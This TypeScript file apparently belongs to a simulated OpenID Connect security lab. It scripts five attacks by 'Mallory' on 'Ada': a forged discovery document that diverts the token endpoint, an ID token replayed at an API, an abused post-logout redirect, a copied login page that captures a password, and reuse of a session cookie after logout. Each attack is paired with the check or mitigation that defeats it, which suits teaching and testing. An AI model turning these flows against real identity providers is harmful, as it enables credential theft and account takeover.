/** Before a login, after it, and beside it. */

import { decodeForm, onlyValue } from '@lockstep/http/form-urlencoded'
import { type HttpRequest, octets, readable, request } from '@lockstep/http/message'
import { html } from '../../html-page.ts'
import { bodyOf, expected, letIn } from '../../oauth2/attacks/moves.ts'
import { authorizationPage } from '../../oauth2/pages/authorization-page.ts'
import { attack, type World } from '../../scheme.ts'
import { ada, mallory, openidProvider, relyingParty, resourceServer, userAgent } from '../parties.ts'
import { credentialsIn, loggedIn, logIn, signedAnew } from './moves.ts'
import { type BackChannel, clientOf, userAgentOf } from './stage.ts'

const parties = [ada, userAgent, mallory, relyingParty, openidProvider]

export const evilDiscovery = attack({
  id: 'evil-discovery',
  title: 'Answer the client’s discovery with a document of one’s own',
  endpoint: 'client-begin',
  stoppedBy: 'discovery-issuer-matches',
  parties: [...parties, resourceServer],
  arrange: () => null,
  async play(world) {
    const caught: string[] = []
    const client = clientOf(world, {
      // The log-in page stays the real one, so that Ada sees nothing. The code goes elsewhere.
      document: (honest) => ({
        ...honest,
        issuer: `${world.origin}${world.base}/mallory`,
        token_endpoint: `${world.origin}${world.base}/mallory/token`,
      }),
      mallory: async (asked) => {
        // She has the code, its verifier and the client's secret now, and uses all three.
        const answer = await world.send(
          'attacker',
          { ...asked, target: `${world.base}/oidc/token` },
          { to: 'openid-provider' },
        )
        caught.push(String(JSON.parse(bodyOf(answer)).access_token))
        return { ...answer.response, body: octets(bodyOf(answer)) }
      },
    })
    await logIn(userAgentOf(world, 'user-agent', client), world, credentialsIn(world).resourceOwner)
    const [token] = caught
    return token === undefined ? null : letIn(await call(world, 'attacker', token))
  },
  got: (owner) =>
    owner === 'ada'
      ? 'Ada’s code, its verifier and the client’s secret came to Mallory’s token endpoint. She reads Ada’s notes.'
      : null,
})

export const idTokenAtTheApi = attack({
  id: 'id-token-at-the-api',
  title: 'Call an API with the ID Token',
  endpoint: 'whoami',
  stoppedBy: 'type-is-access-token',
  parties: [ada, userAgent, relyingParty, openidProvider, resourceServer],
  async arrange(world) {
    const { idToken } = await adaLoggedIn(world)
    // Somebody made the provider put the API beside the client as an audience, and a scope into the claims.
    return signedAnew(world, idToken, {
      aud: ['relying-party', `${world.origin}${world.base}`],
      scope: 'notes:read notes:write',
    })
  },
  play: (world, idToken) => call(world, 'relying-party', idToken),
  got: (answer) =>
    letIn(answer) === 'ada'
      ? 'Ada’s notes, by a token that tells a client who she is and no API anything.'
      : null,
})

export const logoutRedirect = attack({
  id: 'logout-redirect',
  title: 'Send Ada on from the provider’s log-out page',
  endpoint: 'end-session',
  stoppedBy: 'post-logout-uri-registered',
  parties,
  async arrange(world) {
    return (await adaLoggedIn(world)).hers
  },
  async play(world, hers) {
    const wanted = new URLSearchParams({
      post_logout_redirect_uri: `${world.origin}${world.base}/mallory/log-in`,
    })
    await hers.visit(`${world.base}/oidc/end_session?${wanted}`)
    return hers.submit([['decision', 'approve']])
  },
  got: (page) =>
    page.to === 'attacker'
      ? 'Ada clicked a link to the real provider, and stands before a log-in page of Mallory’s.'
      : null,
})

export const lookAlikeProvider = attack({
  id: 'look-alike-provider',
  title: 'Copy the provider’s log-in page',
  stoppedBy: null,
  instead:
    'A log-in at the provider that no copied page can pass on: a passkey (WebAuthn) signs for the origin it is used at. A client certificate would prove which device it is, and not whose page is shown.',
  parties,
  arrange: () => null,
  async play(world) {
    const typed: { userId: string; password: string }[] = []
    const page = (message: HttpRequest) => {
      if (message.method === 'POST') typed.push(personIn(message))
      return message.method === 'POST' ? sorry : copied
    }
    const hers = userAgentOf(world, 'user-agent', [], { mallory: page })
    await hers.visit(`${world.base}/mallory/log-in`)
    const { userId, password } = credentialsIn(world).resourceOwner
    await hers.submit([
      ['userId', userId],
      ['password', password],
    ])
    const own = userAgentOf(world, 'attacker', clientOf(world))
    return logIn(own, world, expected(typed[0], 'a password that was typed'))
  },
  got: (page) =>
    loggedIn(page) === 'ada' ? 'A session as Ada, with every check of the client passed.' : null,
})

export const sessionLeftBehind = attack({
  id: 'session-left-behind',
  title: 'Go on with the client’s session after Ada logged out at the provider',
  stoppedBy: null,
  instead:
    'Back-Channel Logout, by which the provider tells each client to end its session; short sessions at the client where there is none.',
  parties,
  async arrange(world) {
    const { hers, idToken, page } = await adaLoggedIn(world)
    const cookie = expected(
      page.request.headers.find(([name]) => name.toLowerCase() === 'cookie'),
      'the cookie of a session',
    )
    const hint = new URLSearchParams({ id_token_hint: idToken })
    const out = await hers.visit(`${world.base}/oidc/end_session?${hint}`)
    return { cookie, out: out.response.status }
  },
  play: (world, { cookie }) =>
    world.send('attacker', request('GET', `${world.base}/oidc/client/session`, [cookie]), {
      to: 'relying-party',
      says: 'a copy of the cookie, from before',
    }),
  got: (page) =>
    loggedIn(page) === 'ada'
      ? 'Ada’s session at the client. It ends when its hour is over, and no sooner.'
      : null,
})

/** Ada at the client, with the ID Token that her login brought. */
async function adaLoggedIn(world: World) {
  const seen: unknown[] = []
  const watched: BackChannel = {
    changedBy: 'openid-provider',
    tokens: (honest) => {
      seen.push(honest.id_token)
      return honest
    },
  }
  const hers = userAgentOf(world, 'user-agent', clientOf(world, watched))
  const page = await logIn(hers, world, credentialsIn(world).resourceOwner)
  if (loggedIn(page) !== 'ada') throw new Error('Unexpected end of an honest login')
  return { hers, page, idToken: String(seen[0]) }
}

function call(world: World, from: string, token: string) {
  const message = request('GET', `${world.base}/oidc/whoami`, [['Authorization', `Bearer ${token}`]])
  return world.send(from, message, { to: 'resource-server' })
}

const copied = authorizationPage(200, {
  title: 'Log in',
  main: html`<form method="post"><label for="userId">User</label><input id="userId" name="userId">
<label for="password">Password</label><input id="password" name="password" type="password">
<div class="buttons"><button class="first" type="submit">Log in</button></div></form>`,
})
const sorry = authorizationPage(200, { title: 'Try again later', main: html`<p>Something went wrong.</p>` })

function personIn(message: HttpRequest) {
  const pairs = decodeForm(readable(message.body)) ?? []
  return { userId: onlyValue(pairs, 'userId') ?? '', password: onlyValue(pairs, 'password') ?? '' }
}
